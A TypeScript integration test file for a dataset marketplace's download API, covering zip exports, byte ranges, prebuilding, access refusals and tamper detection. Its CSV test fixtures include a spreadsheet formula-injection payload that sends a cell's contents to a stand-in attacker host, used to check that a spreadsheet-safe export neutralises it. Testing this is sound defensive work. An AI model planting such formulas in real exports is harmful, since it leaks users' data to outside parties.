import { mkdirSync, mkdtempSync, readdirSync, rmSync, utimesSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import sharp from "sharp";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { GET as downloadRoute } from "@/app/api/datasets/[versionId]/download/route";
import { getEnv } from "@/lib/env";
import { parseCsv } from "@/lib/domain/manifest/csv";
import { openZipArchive } from "@/lib/jobs/export/zip-archive";
import { verifyExportArchive, type VerifyReport } from "@/lib/jobs/export/verify-export";
import { createApiKey, revokeApiKey } from "@/lib/server/api-keys/api-keys";
import type { SessionUser } from "@/lib/server/auth/roles";
import { ExportCache } from "@/lib/server/datasets/export-cache";
import { runExportPrebuilder } from "@/lib/jobs/export-prebuilder";
import { prebuilderAlive, touchPrebuilderHeartbeat } from "@/lib/server/datasets/export-requests";
import { prebuildNextExport } from "@/lib/server/datasets/prebuild-exports";
import { publishedRootFrom, trustedRegistry } from "@/lib/server/datasets/published-root";
import { db } from "@/lib/server/db";
import { defaultStorage } from "@/lib/server/storage/default-storage";
import { ensureDeployments } from "@/lib/server/ensure-deployment";
import { publishedVersion, publishOnRegistry, purchase, textSamples, type PublishedVersion } from "../support/datasets";
import { resetDb } from "../support/db-reset";
import { INTEGRATION } from "../support/ports";
import { requestAs, userWithSession, type TestUser } from "../support/sessions";
import { rewriteZip, zipEntries } from "../support/zips";

const scratch = mkdtempSync(path.join(tmpdir(), "tessera-download-"));
const asSessionUser = (u: TestUser): SessionUser => ({ id: u.id, address: u.address, displayName: null, roles: [] });

async function download(user: TestUser | null, versionId: string, options: { format?: string; headers?: Record<string, string> } = {}) {
  const url = `${INTEGRATION.appUrl}/api/datasets/${versionId}/download${options.format ? `?format=${options.format}` : ""}`;
  const response = await downloadRoute(requestAs(user, url, { headers: options.headers }), { params: Promise.resolve({ versionId }) });
  const bytes = Buffer.from(await response.arrayBuffer());
  return { status: response.status, headers: response.headers, bytes, json: () => JSON.parse(bytes.toString("utf8")) as { error: { code: string; message: string } } };
}

async function verifyBytes(bytes: Buffer, name = "download.zip"): Promise<VerifyReport> {
  const file = path.join(scratch, name);
  writeFileSync(file, bytes);
  return verifyFile(file);
}

async function verifyFile(file: string): Promise<VerifyReport> {
  const archive = await openZipArchive(file);
  try {
    return await verifyExportArchive(archive, publishedRootFrom(await trustedRegistry({})));
  } finally {
    archive.close();
  }
}

const cachedZips = () => {
  try {
    return readdirSync(path.resolve(getEnv().exportCacheDir)).filter((n) => n.endsWith(".zip"));
  } catch {
    return [];
  }
};

let contributor: TestUser;
let buyer: TestUser;
let text: PublishedVersion;

beforeAll(() => () => rmSync(scratch, { recursive: true, force: true }));

beforeEach(async () => {
  await resetDb();
  rmSync(path.resolve(getEnv().blobDir), { recursive: true, force: true });
  rmSync(path.resolve(getEnv().exportCacheDir), { recursive: true, force: true });
  contributor = await userWithSession({ name: "Ada" });
  buyer = await userWithSession({ name: "Claude" });
  text = await publishedVersion({ contributors: [contributor], samples: textSamples(120) });
  await purchase(text.versionId, buyer.id);
});

describe("download: a buyer gets a verifiable zip", () => {
  it.each(["jsonl", "csv", "parquet"])("streams a %s download in the Hugging Face layout, and the verifier says OK", async (format) => {
    const { status, headers, bytes } = await download(buyer, text.versionId, { format });
    expect(status).toBe(200);
    expect(headers.get("content-type")).toBe("application/zip");
    expect(headers.get("content-disposition")).toMatch(new RegExp(`^attachment; filename=".+-v1-${format}\\.zip"$`));
    expect(headers.get("etag")).toMatch(/^"[0-9a-f]{32}"$/);
    writeFileSync(path.join(scratch, "layout.zip"), bytes);
    const entries = await zipEntries(path.join(scratch, "layout.zip"));
    const shards = [...entries.keys()].filter((n) => n.startsWith("data/")).sort();
    expect(shards.length).toBeGreaterThan(1); // the integration stack's shard target is 4 KB
    expect(shards[0]).toBe(`data/train-00000-of-${String(shards.length).padStart(5, "0")}.${format}`);
    expect(entries.get("README.md")!.toString()).toMatch(/^---\n[\s\S]*license: "cc-by-4.0"/);
    const manifest = JSON.parse(entries.get("manifest.json")!.toString()) as { merkle: { root: string; leafCount: number }; files: { path: string }[] };
    expect(manifest.merkle).toMatchObject({ root: text.merkleRoot, leafCount: 120 });
    expect(manifest.files.map((f) => f.path).sort()).toEqual([...entries.keys()].filter((n) => n !== "manifest.json").sort());

    const report = await verifyBytes(bytes);
    expect(report.findings).toEqual([]);
    expect(report.ok).toBe(true);
    expect(report.computedRoot).toBe(text.merkleRoot);
  });

  it("exports an image dataset with its files under images/, multi-labels as lists, and verifies it", async () => {
    const images = await Promise.all(
      Array.from({ length: 6 }, (_, i) => sharp({ create: { width: 8, height: 8, channels: 3, background: { r: i * 40, g: 10, b: 200 - i * 30 } } }).png().toBuffer()),
    );
    const version = await publishedVersion({
      contributors: [contributor],
      dataType: "IMAGE",
      labelSchema: { kind: "multi_label", labels: ["cat", "dog", "outdoor"] },
      storage: defaultStorage(),
      samples: images.map((bytes, i) => ({ image: { bytes, mimeType: "image/png" }, labels: i % 2 ? ["outdoor", "cat"] : ["dog"] })),
    });
    await purchase(version.versionId, buyer.id);
    for (const format of ["parquet", "jsonl"]) {
      const { status, bytes } = await download(buyer, version.versionId, { format });
      expect(status).toBe(200);
      const report = await verifyBytes(bytes, `images.${format}.zip`);
      expect(report.findings).toEqual([]);
      const entries = await zipEntries(path.join(scratch, `images.${format}.zip`));
      expect([...entries.keys()].filter((n) => n.startsWith("images/"))).toHaveLength(6);
      if (format === "jsonl") {
        const rows = [...entries].filter(([n]) => n.startsWith("data/")).flatMap(([, b]) => b.toString().trim().split("\n").map((l) => JSON.parse(l) as { file: string; labels: string[] }));
        expect(rows.find((r) => r.labels.length === 2)!.labels).toEqual(["cat", "outdoor"]);
        expect(entries.has(rows[0]!.file)).toBe(true);
      }
    }
  });

  it("serves byte ranges of the same bytes once built, and the whole file when If-Range names another version", async () => {
    const full = await download(buyer, text.versionId, { format: "jsonl" });
    const etag = full.headers.get("etag")!;
    const part = await download(buyer, text.versionId, { format: "jsonl", headers: { range: "bytes=100-1099", "if-range": etag } });
    expect(part.status).toBe(206);
    expect(part.headers.get("content-range")).toBe(`bytes 100-1099/${full.bytes.length}`);
    expect(part.bytes.equals(full.bytes.subarray(100, 1100))).toBe(true);
    const tail = await download(buyer, text.versionId, { format: "jsonl", headers: { range: `bytes=${full.bytes.length - 10}-` } });
    expect(tail.bytes.equals(full.bytes.subarray(full.bytes.length - 10))).toBe(true);
    const stale = await download(buyer, text.versionId, { format: "jsonl", headers: { range: "bytes=0-9", "if-range": '"somethingelse"' } });
    expect(stale.status).toBe(200);
    expect(stale.bytes.equals(full.bytes)).toBe(true);
    const beyond = await download(buyer, text.versionId, { format: "jsonl", headers: { range: `bytes=${full.bytes.length}-` } });
    expect(beyond.status).toBe(416);
    expect(beyond.headers.get("content-range")).toBe(`bytes */${full.bytes.length}`);
  });

  it("answers a first request that asks for a range by building the zip, then serving the range", async () => {
    const part = await download(buyer, text.versionId, { format: "csv", headers: { range: "bytes=0-3" } });
    expect(part.status).toBe(206);
    expect(part.bytes.toString("latin1")).toBe("PK\u0003\u0004");
    const full = await download(buyer, text.versionId, { format: "csv" });
    expect(full.headers.get("content-length")).toBe(String(full.bytes.length));
  });

  it("builds the same bytes again for the same version and format, so the ETag and cached ranges stay true", async () => {
    const first = await download(buyer, text.versionId, { format: "parquet" });
    rmSync(path.resolve(getEnv().exportCacheDir), { recursive: true, force: true });
    const second = await download(buyer, text.versionId, { format: "parquet" });
    expect(second.headers.get("etag")).toBe(first.headers.get("etag"));
    expect(second.bytes.equals(first.bytes)).toBe(true);
  });

  it("finishes building a download its reader abandoned, so a resumed request gets the rest by Range", async () => {
    const url = `${INTEGRATION.appUrl}/api/datasets/${text.versionId}/download?format=jsonl`;
    const response = await downloadRoute(requestAs(buyer, url), { params: Promise.resolve({ versionId: text.versionId }) });
    const reader = response.body!.getReader();
    const first = await reader.read();
    expect(first.done).toBe(false);
    await reader.cancel(); // the connection drops after the first chunk
    await expect.poll(() => cachedZips().length, { timeout: 20_000 }).toBe(1);
    const received = Buffer.from(first.value!).subarray(0, 1000); // what the client kept before the drop
    const rest = await download(buyer, text.versionId, { format: "jsonl", headers: { range: `bytes=${received.length}-`, "if-range": response.headers.get("etag")! } });
    expect(rest.status).toBe(206);
    const whole = Buffer.concat([received, rest.bytes]);
    expect((await verifyBytes(whole, "resumed.zip")).ok).toBe(true);
  });

  it("ends only that response when its build fails part way, and serves the next download", async () => {
    const images = await Promise.all(Array.from({ length: 20 }, (_, i) => sharp({ create: { width: 8, height: 8, channels: 3, background: { r: i * 12, g: 40, b: 90 } } }).png().toBuffer()));
    const broken = await publishedVersion({
      contributors: [contributor],
      dataType: "IMAGE",
      labelSchema: { kind: "single_label", labels: ["cat", "dog"] },
      storage: defaultStorage(),
      samples: images.map((bytes) => ({ image: { bytes, mimeType: "image/png" }, labels: "dog" })),
    });
    await purchase(broken.versionId, buyer.id);
    const gone = await db.datasetVersionSample.findFirstOrThrow({ where: { versionId: broken.versionId, position: 15 }, select: { contentHash: true } });
    await defaultStorage().delete(gone.contentHash);
    const url = `${INTEGRATION.appUrl}/api/datasets/${broken.versionId}/download?format=parquet`;
    const response = await downloadRoute(requestAs(buyer, url), { params: Promise.resolve({ versionId: broken.versionId }) });
    expect(response.status).toBe(200); // the first bytes left before the missing file was reached
    await expect(response.arrayBuffer()).rejects.toThrow(/The stored file [0-9a-f]{64} of this version is missing/);
    expect(cachedZips()).toEqual([]);
    const next = await download(buyer, text.versionId, { format: "parquet" });
    expect((await verifyBytes(next.bytes)).ok).toBe(true);
  });

  it("accepts a download-scoped API key of the buyer", async () => {
    const { key } = await createApiKey(asSessionUser(buyer), { name: "script", scopes: ["download"] });
    const { status, bytes } = await download(null, text.versionId, { headers: { authorization: `Bearer ${key}` } });
    expect(status).toBe(200);
    expect((await verifyBytes(bytes)).ok).toBe(true);
  });
});

describe("prebuild: the worker builds published downloads before anyone asks", () => {
  it("builds each missing format of each published version once, newest first, skipping drafts, then idles", async () => {
    const older = text;
    const newer = await publishedVersion({ contributors: [contributor], samples: textSamples(30) });
    await db.datasetVersion.update({ where: { id: newer.versionId }, data: { publishedAt: new Date("2026-12-02T12:00:00Z") } });
    await publishedVersion({ contributors: [contributor], samples: textSamples(5), status: "DRAFT" });
    const skip = new Set<string>();
    const built: string[] = [];
    for (let step = await prebuildNextExport(["parquet", "jsonl"], skip); !("idle" in step); step = await prebuildNextExport(["parquet", "jsonl"], skip)) {
      if (!("built" in step)) throw new Error(`unexpected step ${JSON.stringify(step)}`);
      built.push(`${step.built.versionId === newer.versionId ? "newer" : "older"} ${step.built.format}`);
      expect(step.built.bytes).toBeGreaterThan(0);
    }
    expect(built).toEqual(["newer parquet", "newer jsonl", "older parquet", "older jsonl"]);
    expect(cachedZips()).toHaveLength(4);

    // The buyer's download is now the finished file (a known length), byte for byte what a cold build streams.
    const served = await download(buyer, older.versionId, { format: "parquet" });
    expect(served.status).toBe(200);
    expect(served.headers.get("content-length")).toBe(String(served.bytes.length));
    rmSync(path.resolve(getEnv().exportCacheDir), { recursive: true, force: true });
    const cold = await download(buyer, older.versionId, { format: "parquet" });
    expect(cold.headers.get("content-length")).toBeNull();
    expect(cold.bytes.equals(served.bytes)).toBe(true);
    expect((await verifyBytes(served.bytes)).ok).toBe(true);
  });

  it("hands a download nobody has built to the running worker's prebuilder, which builds it for the buyer", async () => {
    const logs: string[] = [];
    const controller = new AbortController();
    // Requests only (no formats to prebuild), as with EXPORT_PREBUILD_FORMATS=none.
    const loop = runExportPrebuilder({ formats: [], pollMs: 60_000, log: (line) => logs.push(line), signal: controller.signal });
    try {
      await expect.poll(() => prebuilderAlive(path.resolve(getEnv().exportCacheDir))).toBe(true);
      const got = await download(buyer, text.versionId, { format: "csv" });
      expect(got.status).toBe(200);
      expect((await verifyBytes(got.bytes)).ok).toBe(true);
      expect(logs).toEqual([expect.stringMatching(/csv built \(asked for by a download\)/)]);
      expect(cachedZips()).toHaveLength(1);
    } finally {
      controller.abort();
      await loop;
    }
    expect(readdirSync(path.join(path.resolve(getEnv().exportCacheDir), ".tmp"))).toEqual(["prebuilder.alive"]);
  });

  it("builds a download in the web process, without asking, when no worker has touched the heartbeat lately", async () => {
    const cacheDir = path.resolve(getEnv().exportCacheDir);
    const stopped = new Date(Date.now() - 10_000);
    await touchPrebuilderHeartbeat(cacheDir, stopped);
    const got = await download(buyer, text.versionId, { format: "jsonl" });
    expect((await verifyBytes(got.bytes)).ok).toBe(true);
    // Nobody would have taken a request, so one written would still be here.
    expect(readdirSync(path.join(cacheDir, ".tmp"))).toEqual(["prebuilder.alive"]);
  });

  it("reports a version that cannot be built once, leaves no file behind, and goes on with the others", async () => {
    const broken = await publishedVersion({ contributors: [contributor], samples: textSamples(10) });
    await db.datasetVersion.update({ where: { id: broken.versionId }, data: { sampleCount: 11, publishedAt: new Date("2026-12-02T12:00:00Z") } });
    const skip = new Set<string>();
    const first = await prebuildNextExport(["csv"], skip);
    expect(first).toMatchObject({ failed: { versionId: broken.versionId, format: "csv", reason: expect.stringMatching(/sample list is incomplete/) } });
    const second = await prebuildNextExport(["csv"], skip);
    expect(second).toMatchObject({ built: { versionId: text.versionId, format: "csv" } });
    expect(await prebuildNextExport(["csv"], skip)).toEqual({ idle: true });
    expect(cachedZips()).toHaveLength(1);
    expect(readdirSync(path.join(path.resolve(getEnv().exportCacheDir), ".tmp"))).toEqual([]);
  });

  it("reports an image version whose stored file is gone, and keeps no partial zip", async () => {
    const images = await Promise.all(Array.from({ length: 20 }, (_, i) => sharp({ create: { width: 8, height: 8, channels: 3, background: { r: i * 12, g: 90, b: 30 } } }).png().toBuffer()));
    const version = await publishedVersion({
      contributors: [contributor],
      dataType: "IMAGE",
      labelSchema: { kind: "single_label", labels: ["cat", "dog"] },
      storage: defaultStorage(),
      samples: images.map((bytes) => ({ image: { bytes, mimeType: "image/png" }, labels: "cat" })),
    });
    await db.datasetVersion.update({ where: { id: version.versionId }, data: { publishedAt: new Date("2026-12-02T12:00:00Z") } });
    const gone = await db.datasetVersionSample.findFirstOrThrow({ where: { versionId: version.versionId, position: 12 }, select: { contentHash: true } });
    await defaultStorage().delete(gone.contentHash);
    const step = await prebuildNextExport(["parquet"], new Set());
    expect(step).toMatchObject({ failed: { versionId: version.versionId, reason: `The stored file ${gone.contentHash} of this version is missing.` } });
    expect(cachedZips()).toEqual([]);
    expect(readdirSync(path.join(path.resolve(getEnv().exportCacheDir), ".tmp"))).toEqual([]);
  });

  it("sweeps temporary files of builds that died, and only those", async () => {
    const dir = path.join(scratch, "sweep");
    rmSync(dir, { recursive: true, force: true });
    const cache = new ExportCache(dir);
    expect(await cache.sweepTemporaryFiles(1000)).toBe(0); // no .tmp folder yet
    mkdirSync(path.join(dir, ".tmp"), { recursive: true });
    writeFileSync(path.join(dir, ".tmp", "dead.zip.1"), "x");
    writeFileSync(path.join(dir, ".tmp", "live.zip.2"), "x");
    const hourAgo = new Date(Date.now() - 3_600_000);
    utimesSync(path.join(dir, ".tmp", "dead.zip.1"), hourAgo, hourAgo);
    expect(await cache.sweepTemporaryFiles(60_000)).toBe(1);
    expect(readdirSync(path.join(dir, ".tmp"))).toEqual(["live.zip.2"]);
  });
});

describe("download: CSV for spreadsheets", () => {
  const risky = ['=HYPERLINK("http://evil.example/?x="&A1,"Click for the full review")', "+1 great", "-5 stars", "@SUM(A1:A9)", "\tindented", "'quoted already", "Plain text."];

  it("passes formula-like cells through in csv (the hashed bytes), and neutralises them in csv-safe, which still verifies", async () => {
    const version = await publishedVersion({ contributors: [contributor], samples: risky.map((t, i) => ({ text: t, labels: i % 2 ? "positive" : "negative" })) });
    await purchase(version.versionId, buyer.id);
    const cells = async (bytes: Buffer, name: string) => {
      writeFileSync(path.join(scratch, name), bytes);
      const entries = await zipEntries(path.join(scratch, name));
      return [...entries].filter(([n]) => n.startsWith("data/")).flatMap(([, b]) => parseCsv(b.toString("utf8")).slice(1).flatMap((r) => r.fields));
    };

    const plain = await download(buyer, version.versionId, { format: "csv" });
    expect(plain.status).toBe(200);
    expect(await cells(plain.bytes, "plain.zip")).toContain(risky[0]);
    expect((await verifyBytes(plain.bytes, "plain.zip")).findings).toEqual([]);

    const safe = await download(buyer, version.versionId, { format: "csv-safe" });
    expect(safe.status).toBe(200);
    expect(safe.headers.get("content-disposition")).toMatch(/-v1-csv-safe\.zip"$/);
    expect(safe.headers.get("etag")).not.toBe(plain.headers.get("etag"));
    const safeCells = await cells(safe.bytes, "safe.zip");
    expect(safeCells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(safeCells).toContain(`'${risky[0]}`);
    expect(safeCells).toContain("''quoted already");
    expect(safeCells).toContain("Plain text.");
    const report = await verifyBytes(safe.bytes, "safe.zip");
    expect(report.findings).toEqual([]);
    expect(report.computedRoot).toBe(version.merkleRoot);
    expect(report.manifest?.cells).toBe("spreadsheet-safe");

    // A neutralised cell is still checked against its hash: a change inside it is found.
    let edits = 0;
    await rewriteZip(path.join(scratch, "safe.zip"), path.join(scratch, "safe-tampered.zip"), (name, bytes) => {
      if (!name.startsWith("data/") || !bytes.includes("'=HYPERLINK")) return bytes;
      const after = Buffer.from(bytes.toString("utf8").replace("'=HYPERLINK(", "'=HYPERLINK( "));
      expect(after.equals(bytes)).toBe(false);
      edits++;
      return after;
    });
    expect(edits).toBe(1);
    expect((await verifyFile(path.join(scratch, "safe-tampered.zip"))).findings).toContainEqual(expect.objectContaining({ problem: expect.stringMatching(/text hashes to/) }));
  });
});

describe("download: refused requests", () => {
  const refusals: [string, () => Promise<{ user: TestUser | null; versionId: string; format?: string; headers?: Record<string, string> }>, number, string, RegExp][] = [
    ["without a purchase", async () => ({ user: await userWithSession({ name: "Stranger" }), versionId: text.versionId }), 403, "FORBIDDEN", /Buy this dataset version/],
    ["without any credentials", async () => ({ user: null, versionId: text.versionId }), 401, "UNAUTHENTICATED", /Sign in with your wallet, or send an API key/],
    ["with a wrong API key", async () => ({ user: null, versionId: text.versionId, headers: { authorization: "Bearer tsk_not-a-real-key" } }), 401, "UNAUTHENTICATED", /not valid, or it was revoked/],
    [
      "with a revoked API key",
      async () => {
        const { key, row } = await createApiKey(asSessionUser(buyer), { name: "old", scopes: ["download"] });
        await revokeApiKey(asSessionUser(buyer), row.id);
        return { user: null, versionId: text.versionId, headers: { authorization: `Bearer ${key}` } };
      },
      401,
      "UNAUTHENTICATED",
      /not valid, or it was revoked/,
    ],
    [
      "with another buyer's key (who has not bought this version)",
      async () => {
        const other = await userWithSession({ name: "Other buyer" });
        const { key } = await createApiKey(asSessionUser(other), { name: "theirs", scopes: ["download"] });
        return { user: null, versionId: text.versionId, headers: { authorization: `Bearer ${key}` } };
      },
      403,
      "FORBIDDEN",
      /Buy this dataset version/,
    ],
    [
      "with an API key that may only upload",
      async () => {
        const { key } = await createApiKey(asSessionUser(buyer), { name: "uploader", scopes: ["upload"] });
        return { user: null, versionId: text.versionId, headers: { authorization: `Bearer ${key}` } };
      },
      403,
      "FORBIDDEN",
      /not allowed to download/,
    ],
    ["for a version that does not exist", async () => ({ user: buyer, versionId: "no-such-version" }), 404, "NOT_FOUND", /No such dataset version/],
    [
      "for an unpublished draft, even with a purchase row",
      async () => {
        const draft = await publishedVersion({ contributors: [contributor], samples: textSamples(5), status: "DRAFT" });
        await purchase(draft.versionId, buyer.id);
        return { user: buyer, versionId: draft.versionId };
      },
      404,
      "NOT_FOUND",
      /No such dataset version/,
    ],
    ["with a bad format", async () => ({ user: buyer, versionId: text.versionId, format: "xlsx" }), 400, "BAD_REQUEST", /format must be one of parquet, jsonl, csv/],
  ];

  it.each(refusals)("refuses a download %s", async (_name, setup, status, code, message) => {
    const { user, versionId, format, headers } = await setup();
    const response = await download(user, versionId, { format, headers });
    expect(response.status).toBe(status);
    expect(response.json().error).toMatchObject({ code, message: expect.stringMatching(message) });
    expect(cachedZips()).toEqual([]); // nothing built, nothing left behind
  });
});

describe("verifier: the root on-chain", () => {
  it("checks the root the DatasetRegistry holds, and names a manifest whose root the chain does not have", async () => {
    const [, , registry] = await ensureDeployments();
    const onChain = await publishedVersion({ contributors: [contributor], samples: textSamples(8) });
    await publishOnRegistry(onChain.versionId, registry!.address);
    const forged = await publishedVersion({ contributors: [contributor], samples: textSamples(9) });
    await publishOnRegistry(forged.versionId, registry!.address, `0x${"ab".repeat(32)}`); // the chain disagrees with the database
    for (const v of [onChain, forged]) await purchase(v.versionId, buyer.id);

    const good = await verifyBytes((await download(buyer, onChain.versionId, { format: "csv" })).bytes, "onchain.zip");
    expect(good.findings).toEqual([]);
    expect(good.published?.source).toBe(`DatasetRegistry ${registry!.address} on chain 31337`);

    const bad = await verifyBytes((await download(buyer, forged.versionId, { format: "csv" })).bytes, "forged.zip");
    expect(bad.ok).toBe(false);
    expect(bad.findings).toEqual([{ file: "manifest.json", problem: `Merkle root ${forged.merkleRoot} is not the published one, 0x${"ab".repeat(32)} (DatasetRegistry ${registry!.address} on chain 31337)` }]);
  });
});

describe("verifier: tampered downloads", () => {
  let original: string;
  beforeEach(async () => {
    const { bytes } = await download(buyer, text.versionId, { format: "jsonl" });
    original = path.join(scratch, "original.zip");
    writeFileSync(original, bytes);
    expect((await verifyFile(original)).ok).toBe(true);
  });

  const firstShard = "data/train-00000-of-";
  /** A tamper that changes nothing would make a test pass or fail by chance: every edit must change the bytes. */
  const changed = (before: Buffer, after: Buffer) => {
    expect(after.equals(before), "the tamper changed no byte").toBe(false);
    return after;
  };
  /** The shard with its first row edited (every shard has one), written back as JSONL. */
  const editFirstRow = (bytes: Buffer, edit: (row: { sample_id: string; text: string; label: string }) => void) => {
    const [first, ...rest] = bytes.toString("utf8").split("\n");
    const row = JSON.parse(first!) as { sample_id: string; text: string; label: string };
    edit(row);
    return changed(bytes, Buffer.from([JSON.stringify(row), ...rest].join("\n")));
  };
  const tamper = async (edit: (name: string, bytes: Buffer) => Buffer | null, extra?: Record<string, Buffer>) => {
    const target = path.join(scratch, "tampered.zip");
    await rewriteZip(original, target, edit, extra);
    return verifyFile(target);
  };

  it("names the file and the sample when one byte of a text changes", async () => {
    let sampleId = "";
    const report = await tamper((name, bytes) =>
      name.startsWith(firstShard)
        ? editFirstRow(bytes, (row) => {
            sampleId = row.sample_id;
            row.text = row.text.replace("Review", "Reviex");
          })
        : bytes,
    );
    expect(sampleId).not.toBe("");
    expect(report.ok).toBe(false);
    expect(report.findings).toContainEqual(expect.objectContaining({ file: expect.stringMatching(/^data\/train-00000-of-\d{5}\.jsonl$/), problem: expect.stringMatching(/^differs from manifest.json/) }));
    expect(report.findings).toContainEqual(expect.objectContaining({ sampleId, problem: expect.stringMatching(/text hashes to/) }));
  });

  it("names the file and reports the Merkle root when a label changes", async () => {
    const report = await tamper((name, bytes) =>
      name.startsWith(firstShard) ? editFirstRow(bytes, (row) => void (row.label = row.label === "positive" ? "negative" : "positive")) : bytes,
    );
    expect(report.ok).toBe(false);
    expect(report.findings).toContainEqual(expect.objectContaining({ file: expect.stringMatching(/^data\/train-00000-of-/), problem: expect.stringMatching(/^differs from manifest.json/) }));
    expect(report.findings).toContainEqual(expect.objectContaining({ file: "data/", problem: expect.stringMatching(/the rows give Merkle root 0x[0-9a-f]{64}, manifest.json says/) }));
  });

  it("names a removed file and an extra file", async () => {
    const report = await tamper((name, bytes) => (name.startsWith(firstShard) ? null : bytes), { "data/extra.jsonl": Buffer.from("{}\n") });
    expect(report.findings).toContainEqual(expect.objectContaining({ file: expect.stringMatching(/^data\/train-00000-of-/), problem: "is listed in manifest.json but missing from the zip" }));
    expect(report.findings).toContainEqual({ file: "data/extra.jsonl", problem: "is in the zip but not listed in manifest.json" });
  });

  it("reports a manifest whose root is not the published one", async () => {
    const report = await tamper((name, bytes) => (name === "manifest.json" ? changed(bytes, Buffer.from(bytes.toString().replace(text.merkleRoot, `0x${"0".repeat(64)}`))) : bytes));
    expect(report.findings).toContainEqual(expect.objectContaining({ file: "manifest.json", problem: expect.stringMatching(/is not the published one/) }));
  });
});
